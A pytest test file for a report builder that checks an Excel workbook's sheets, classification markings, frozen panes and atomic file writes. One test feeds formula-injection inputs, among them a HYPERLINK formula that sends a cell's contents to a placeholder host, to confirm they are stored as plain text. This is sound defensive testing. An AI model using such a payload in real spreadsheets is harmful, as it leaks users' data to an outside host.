"""The workbook: one sheet per table, marking in row 1, bold header in row 2, frozen panes."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from bastion.report import build_xlsx, write_report

SHEETS = (
    "inputs", "targets", "lines", "cost_breakdown",
    "plan_production", "plan_purchases", "plan_stores", "plan_deliveries", "plan_stockpiles", "plan_costs",
    "schedule_tasks", "sim_targets", "sim_first_output", "sim_fan_charts", "resilience_nodes",
    "concentration", "unit_cost", "unit_cost_by_month", "cash_by_year",
)


def test_sheets_headers_marking(run: dict[str, Any], tables: dict[str, Any]) -> None:
    wb = load_workbook(io.BytesIO(build_xlsx(run, tables)))
    assert set(SHEETS) <= set(wb.sheetnames)
    assert wb.sheetnames[0] == "inputs"
    for ws in wb.worksheets:
        assert ws["A1"].value == run["classification"], ws.title
        assert ws["A2"].font.bold, ws.title
        assert ws.freeze_panes == "A3", ws.title
    for name in ("production", "purchases", "stores", "deliveries", "stockpiles", "costs"):
        ws = wb[f"plan_{name}"]
        assert [c.value for c in ws[2]] == list(tables[name][0])
        assert ws.max_row == len(tables[name]) + 2
    ws = wb["plan_production"]
    first = tables["production"][0]
    assert [c.value for c in ws[3]] == [first[k] for k in first]


def test_derived_sheets_hold_the_runs_figures(run: dict[str, Any], tables: dict[str, Any]) -> None:
    wb = load_workbook(io.BytesIO(build_xlsx(run, tables)))
    nodes = wb["resilience_nodes"]
    header = [c.value for c in nodes[2]]
    assert {"node", "kind", "tts_months", "ttr_months", "mitigation"} <= set(header)
    assert nodes.max_row == len(run["resilience"]["nodes"]) + 2
    mit = header.index("mitigation")
    assert str(nodes.cell(row=3, column=mit + 1).value).startswith("fill-charge@plant-lv")
    cash = wb["cash_by_year"]
    assert cash.max_row == len(run["economics"]["cash_by_year"]) + 2
    fans = wb["sim_fan_charts"]
    assert fans.max_row == sum(len(f["months"]) for f in run["simulate"]["fan_charts"]) + 2
    targets = wb["targets"]
    head = [c.value for c in targets[2]]
    assert "probability" in head and "met" in head
    inputs = {r[0]: r[1] for r in wb["inputs"].iter_rows(min_row=3, values_only=True)}
    assert inputs["scenario_hash"] == run["scenario_hash"] and inputs["seed"] == run["seed"]


def test_extra_tables_get_their_own_sheet(run: dict[str, Any], tables: dict[str, Any]) -> None:
    tables["my/extra:table with a very long name indeed"] = [{"a": 1, "b": [1, 2], "c": {"x": 1}}]
    tables["empty"] = []
    wb = load_workbook(io.BytesIO(build_xlsx(run, tables)))
    extra = next(n for n in wb.sheetnames if n.startswith("myextra"))
    assert len(extra) <= 31
    assert [c.value for c in wb[extra][3]] == [1, "1, 2", "x=1"]
    assert wb["empty"]["A2"].value == "(no rows)"


def test_write_report_writes_both_atomically(run: dict[str, Any], tables: dict[str, Any],
                                             tmp_path: Path) -> None:
    out = tmp_path / "out"
    files = write_report(run, tables, out)
    assert files.html == out / "report.html" and files.xlsx == out / "report.xlsx"
    assert files.html.stat().st_size == files.html_bytes
    assert files.xlsx.stat().st_size == files.xlsx_bytes
    assert sorted(p.name for p in out.iterdir()) == ["report.html", "report.xlsx"]
    # plotly.js is about 4.8 MB; the run adds well under 1 MB
    assert files.html_bytes < 6_000_000
    load_workbook(files.xlsx)


def test_every_sheet_prints_the_marking_top_and_bottom(run: dict[str, Any], tables: dict[str, Any]) -> None:
    run["classification"] = "RESTRICTED & TEST"
    wb = load_workbook(io.BytesIO(build_xlsx(run, tables)))
    for ws in wb.worksheets:
        for hf in (ws.oddHeader, ws.oddFooter, ws.evenHeader, ws.evenFooter):
            assert hf.center.text == "RESTRICTED && TEST", ws.title  # "&&" prints one "&"
        assert any(ws.cell(row=r, column=1).value == "RESTRICTED & TEST" for r in (1, 2)), ws.title


def test_user_text_never_becomes_a_formula(run: dict[str, Any], tables: dict[str, Any]) -> None:
    evil = '=HYPERLINK("http://x/?"&A1,"a")'
    run["classification"] = "=1+1"
    run["scenario_file"] = "+cmd.yaml"
    run["plan"]["targets"][0]["customer"] = evil
    tables["production"][0]["line"] = "@line"
    tables["production"][1]["line"] = "-line"
    tables["production"][2]["line"] = "\tline"
    data = build_xlsx(run, tables)
    wb = load_workbook(io.BytesIO(data))
    found = {"=1+1": 0, evil: 0, "+cmd.yaml": 0, "@line": 0, "-line": 0, "\tline": 0}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if c.value in found:
                    found[c.value] += 1
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
    assert all(found.values()), found
    assert b"<f>" not in _sheet_xml(data)


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
